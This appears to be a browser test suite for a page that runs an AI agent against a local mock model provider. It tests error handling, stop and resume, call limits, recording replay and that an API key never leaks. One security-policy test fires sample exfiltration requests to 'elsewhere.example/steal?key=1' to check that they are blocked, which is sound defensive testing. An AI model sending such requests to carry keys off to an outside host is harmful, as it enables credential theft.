// Live: a real run of the page against a provider on this machine that speaks the real protocols.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { violations, overflow } from "./everyone.mjs";
import { answers, arrives, canary, everything, openProvider, reaches, setUp, troublesBeside } from "./live-page.mjs";
import { languages, read } from "./page.mjs";
import { site } from "./site.mjs";

const session = site();
const dialects = ["anthropic", "openAiChat"];

describe("the task is done by a model, in both dialects", () => {
  for (const dialect of dialects) {
    test(dialect, async () => {
      const own = await openProvider();
      own.pauses.push(100);
      const page = await session.open();
      await setUp(page, { dialect, base: own.url });
      await page.getByTestId("live-start").click();
      await page.getByTestId("live-coming").getByText("First I look around").waitFor({ timeout: 20_000 });
      assert.equal(await reaches(page, "over", "failed"), "over");
      await page.locator('[data-testid="live-verdict"][data-outcome="passed"]').waitFor({ timeout: 30_000 });

      const seen = await read(page);
      assert.ok(seen.compactions >= 1, "the window was compacted");
      assert.match(seen.answer, /The race is fixed/);
      assert.match(seen.notes, /None: the race in `updateStatus`/);
      assert.equal(seen.step, seen.last);
      const summaries = own.requests.filter(({ body }) => !body.tools);
      assert.equal(summaries.length, seen.compactions);
      const restart = own.requests.find(({ body }, i) => i > 0 && own.requests[i - 1] === summaries[0]);
      assert.match(JSON.stringify(restart.body.messages), /Race condition in `updateStatus`/, "NOTES.md is read back at the restart");

      for (const { headers, text, url } of own.requests) {
        assert.equal(headers.authorization, `Bearer ${canary}`);
        assert.ok(!text.includes(canary) && !url.includes(canary));
        assert.equal(Object.values(headers).filter((value) => String(value).includes(canary)).length, 1);
      }

      // The recording shows the identical screen, step by step, in a browser that knows nothing of it.
      const screens = async (of) => {
        const found = [];
        for (const step of [0, 3, 9, Math.floor(seen.last / 2), seen.last]) {
          await of.getByTestId("scrubber").fill(String(step));
          found.push(await of.locator("main").evaluate((main) => main.innerHTML));
        }
        return found;
      };
      const before = await screens(page);
      const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("recording-save").click()]);
      const file = await download.path();
      assert.ok(!(await everything(page)).includes(canary), "the key is nowhere in the page");
      const { readFile } = await import("node:fs/promises");
      const text = await readFile(file, "utf8");
      assert.ok(!text.includes(canary) && !text.includes(own.url));
      const other = await session.open();
      await other.getByTestId("source-recorded").click();
      await other.getByTestId("recording-input").setInputFiles(file);
      await other.getByTestId("recording").waitFor();
      assert.deepEqual(await screens(other), before);
      assert.deepEqual(other.troubles, []);
      assert.deepEqual(troublesBeside(page, own.url), []);
      await other.end();

      // It stays for the tab.
      await page.reload();
      await page.getByTestId("source-recorded").click();
      await page.getByTestId("recording").waitFor();
      assert.equal((await read(page)).last, seen.last);
      await page.end();
    });
  }
});

const failures = [
  ["auth", { status: 401, body: { type: "error", error: { type: "authentication_error", message: `invalid x-api-key ${canary}` } } }],
  ["billing", { status: 402, body: { type: "error", error: { type: "billing_error", message: "no credit" } } }],
  ["rate", { status: 429, headers: { "retry-after": "90" }, body: { type: "error", error: { type: "rate_limit_error", message: "slow down" } } }],
  ["overload", { status: 529, body: { type: "error", error: { type: "overloaded_error", message: "busy" } } }, 3],
  ["server", { status: 500, body: { type: "error", error: { type: "api_error", message: "oops" } } }, 3],
  ["notFound", { status: 404, body: { type: "error", error: { type: "not_found_error", message: "model" } } }],
  ["malformed", { status: 200, body: "<html>a proxy says hello</html>", headers: { "content-type": "text/html" } }],
  ["cut", { cut: true }, 3],
];

describe("a call that fails says why, loses nothing, and is made again", () => {
  for (const lang of languages) {
    test(lang, async () => {
      const own = await openProvider();
      const page = await session.open({ lang });
      await setUp(page, { base: own.url });
      const messages = new Set();
      let isFirst = true;
      for (const [name, fault, times = 1] of failures) {
        for (let i = 0; i < times; i++) own.faults.push(fault);
        await page.getByTestId(isFirst ? "live-start" : "live-again").click();
        isFirst = false;
        await page.locator(`[data-testid="live-failure"][data-class="${name}"]`).waitFor({ timeout: 30_000 });
        const told = await page.getByTestId("live-run").innerText();
        assert.ok(!told.includes(canary), told);
        messages.add(await page.getByTestId("live-failure").innerText());
        assert.deepEqual(await answers(page), [], `${name}: nothing is recorded`);
      }
      assert.equal(messages.size, failures.length, "each has its own words");
      assert.ok(![...messages].some((one) => one.startsWith("live-failed-")));
      assert.deepEqual(await violations(page), []);
      await page.getByTestId("live-again").click();
      await reaches(page, "over");
      assert.ok(!(await everything(page)).includes(canary));
      assert.deepEqual(troublesBeside(page, own.url), []);
      await page.end();
    });
  }
});

test("a server that does not allow the page looks to it like one that is not there, and the page says that it may be either", async () => {
  const closed = await openProvider({ cors: false });
  const gone = await openProvider();
  await gone.close();
  const told = [];
  for (const { url } of [closed, gone]) {
    const page = await session.open();
    await setUp(page, { base: url });
    await page.getByTestId("live-start").click();
    await page.getByTestId("live-failure").waitFor({ timeout: 30_000 });
    assert.equal(await page.getByTestId("live-failure").getAttribute("data-class"), "corsSuspected", url);
    told.push(await page.getByTestId("live-failure").innerText());
    await page.end();
  }
  assert.equal(closed.requests.length, 0);
  assert.match(told[0], /does not allow web pages to call it, or there is none at this address/);
  assert.equal(told[1], told[0]);
});

test("tests that cannot be run here are told as that, and not as failed", async () => {
  const own = await openProvider();
  const page = await session.open();
  await setUp(page, { base: own.url });
  await page.getByTestId("live-asks").check();
  await page.getByTestId("live-start").click();
  assert.equal(await reaches(page, "asking", "failed"), "asking");
  // The worker of the network is there by now, and that of the tests is not.
  await page.evaluate(() => {
    window.Worker = class {
      constructor() {
        throw new Error("no more workers");
      }
    };
  });
  await page.getByTestId("live-setup").click();
  await page.getByTestId("live-asks").uncheck();
  await page.getByTestId("live-send").click();
  assert.equal(await reaches(page, "over", "failed"), "over");
  const verdict = page.getByTestId("live-verdict");
  await verdict.waitFor({ timeout: 30_000 });
  assert.equal(await verdict.getAttribute("data-outcome"), "unknown");
  assert.match(await verdict.innerText(), /could not be run here/);
  await page.end();
});

test("the run is stopped at any moment, and goes on from where it was", async () => {
  const own = await openProvider();
  own.pauses.push(100);
  const page = await session.open();
  await setUp(page, { base: own.url });
  own.faults.push({ hang: true });
  await page.getByTestId("live-start").click();
  await page.locator('[data-testid="live-run"][data-state="calling"]').waitFor();
  await arrives(page, own, 1);
  await page.getByTestId("live-stop").click();
  assert.equal(await reaches(page, "stopped"), "stopped");
  await page.getByTestId("live-again").click();
  await page.getByTestId("live-coming").getByText("First I look").waitFor();
  await page.getByTestId("live-stop").click();
  assert.equal(await reaches(page, "stopped"), "stopped");
  assert.deepEqual(await answers(page), []);
  await page.end();
});

test("each call can wait for a word, and none goes over the limit of calls", async () => {
  const own = await openProvider();
  const page = await session.open();
  await setUp(page, { base: own.url });
  await page.getByTestId("live-asks").check();
  await page.getByTestId("live-start").click();
  assert.equal(await reaches(page, "asking"), "asking");
  assert.equal(own.requests.length, 0);
  await page.getByTestId("live-send").click();
  await page.waitForFunction(() => document.querySelector('[data-testid="live-run"]')?.textContent.includes("2"));
  assert.equal(await reaches(page, "asking"), "asking");
  assert.equal(own.requests.length, 1);
  // Whoever goes on after a stop or a failure has not been asked yet.
  await page.getByTestId("live-stop").click();
  assert.equal(await reaches(page, "stopped"), "stopped");
  await page.getByTestId("live-again").click();
  assert.equal(await reaches(page, "asking", "calling", "over"), "asking");
  own.faults.push({ status: 401, body: { error: { type: "authentication_error", message: "no" } } });
  await page.getByTestId("live-send").click();
  assert.equal(await reaches(page, "failed"), "failed");
  await page.getByTestId("live-again").click();
  assert.equal(await reaches(page, "asking", "calling", "over"), "asking");
  assert.equal(own.requests.length, 2);
  assert.match(await page.getByTestId("live-run").innerText(), /price of this model is not known/);
  await page.getByTestId("live-setup").click();
  await page.getByTestId("live-more").click();
  await page.getByTestId("live-calls").fill("1");
  await page.getByTestId("live-calls").blur();
  await page.getByTestId("live-send").click();
  assert.equal(await reaches(page, "capped"), "capped");
  const heading = () => page.locator('[data-testid="live-run"] h3').innerText();
  assert.match(await heading(), /^Stopped before call 2:/);
  // The number is that of the call, whatever else is looked at.
  await page.getByTestId("scenario").selectOption({ index: 0 });
  assert.match(await heading(), /^Stopped before call 2:/);
  await page.getByTestId("live-calls").fill("many");
  await page.getByTestId("live-calls").blur();
  await page.locator('[data-key="live-bad-calls"]').waitFor();
  assert.equal(await page.getByTestId("live-calls").inputValue(), "1", "what cannot be leaves the limit as it was");
  await page.getByTestId("live-calls").fill("40");
  await page.getByTestId("live-calls").blur();
  await page.getByTestId("live-asks").uncheck();
  await page.getByTestId("live-again").click();
  await reaches(page, "over");
  await page.end();
});

test("a key stays with its address, and a run goes on with another key from where it was", async () => {
  const own = await openProvider();
  const page = await session.open();
  await setUp(page, { base: own.url, key: "sk-wrong-wrong-wrong" });
  own.pauses.push(100);
  own.faults.push({ status: 401, body: { error: { type: "authentication_error", message: "no" } } });
  await page.getByTestId("live-start").click();
  await page.locator('[data-testid="live-failure"][data-class="auth"]').waitFor();
  await page.getByTestId("live-setup").click();
  await page.getByTestId("live-key-forget").click();
  assert.equal(await page.getByTestId("live-again").isDisabled(), true);
  await page.getByTestId("live-key").fill(canary);
  await page.getByTestId("live-base").fill(`${own.url}/`);
  assert.equal(await page.getByTestId("live-key").inputValue(), "", "it is not taken along to another address");
  await page.getByTestId("live-key").fill(canary);
  await page.getByTestId("live-resume").click();
  await page.getByTestId("live-coming").getByText("First I look").waitFor();
  await page.getByTestId("live-stop").click();
  assert.equal(await reaches(page, "stopped"), "stopped");
  assert.deepEqual(own.requests.map(({ headers }) => headers.authorization), ["Bearer sk-wrong-wrong-wrong", `Bearer ${canary}`]);
  // The page is loaded anew in the middle of the run: what was written is written again.
  own.faults.length = 0;
  // It waits before each call, so that none is under way then, whose turn the script would count.
  if (!(await page.getByTestId("live-asks").isVisible())) await page.getByTestId("live-setup").click();
  await page.getByTestId("live-asks").check();
  await page.getByTestId("live-again").click();
  for (;;) {
    await reaches(page, "asking");
    if ((await answers(page)).length > 18) break;
    await page.getByTestId("live-send").click();
  }
  await page.reload();
  await setUp(page, { base: own.url });
  await page.getByTestId("live-resume").click();
  assert.equal(await reaches(page, "over", "failed"), "over");
  await page.locator('[data-testid="live-verdict"][data-outcome="passed"]').waitFor({ timeout: 30_000 });
  await page.end();
});

test("the policy of the page lets no other host be reached", async () => {
  const page = await session.open();
  await page.getByTestId("source-live").click();
  await page.getByTestId("live-provider").selectOption("other");
  await page.getByTestId("live-base").fill("https://elsewhere.example");
  await page.getByTestId("live-model").fill("m");
  await page.getByTestId("live-start").click();
  await page.locator('[data-testid="live-bad"][data-key="live-bad-host"]').waitFor();
  const blocked = await page.evaluate(async () => {
    const told = new Promise((resolve) => document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective)));
    await fetch("https://elsewhere.example/steal?key=1").catch(() => {});
    return told;
  });
  assert.equal(blocked, "connect-src");
  // The worker that holds the key is held by the same policy: the other server is there, and not listed.
  const own = await openProvider();
  const other = await openProvider({ host: "127.0.0.2" });
  assert.equal((await fetch(`${other.url}/listed`, { method: "POST", body: "{}" })).status, 404);
  own.faults.push({ hang: true });
  await page.getByTestId("live-base").fill(own.url);
  await page.getByTestId("live-key").fill(canary);
  await page.getByTestId("live-start").click();
  await page.locator('[data-testid="live-run"][data-state="calling"]').waitFor();
  const reach = (url) => page.workers()[0].evaluate((url) => fetch(url, { method: "POST", body: "{}" }).then(() => "reached", () => "blocked"), url);
  assert.equal(await reach(`${own.url}/listed`), "reached");
  assert.equal(await reach(`${other.url}/listed`), "blocked");
  assert.equal(other.requests.length, 1);
  assert.equal(await reach("https://elsewhere.example/steal"), "blocked");
  await page.end();
});

describe("the live view stands in every width, theme and language", () => {
  for (const [i, lang] of languages.entries()) {
    test(lang, async () => {
      const page = await session.open({ lang, width: [320, 768, 1440][i], theme: i % 2 === 0 ? "light" : "dark" });
      await page.getByTestId("source-live").click();
      await page.getByTestId("live-more").click();
      await page.getByTestId("live-start").click();
      await page.getByTestId("live-bad").first().waitFor();
      assert.deepEqual(await violations(page), []);
      assert.deepEqual(await overflow(page), []);
      await page.getByTestId("source-recorded").click();
      assert.deepEqual(await violations(page), []);
      assert.deepEqual(await overflow(page), []);
      assert.deepEqual(page.troubles, []);
      await page.end();
    });
  }
});
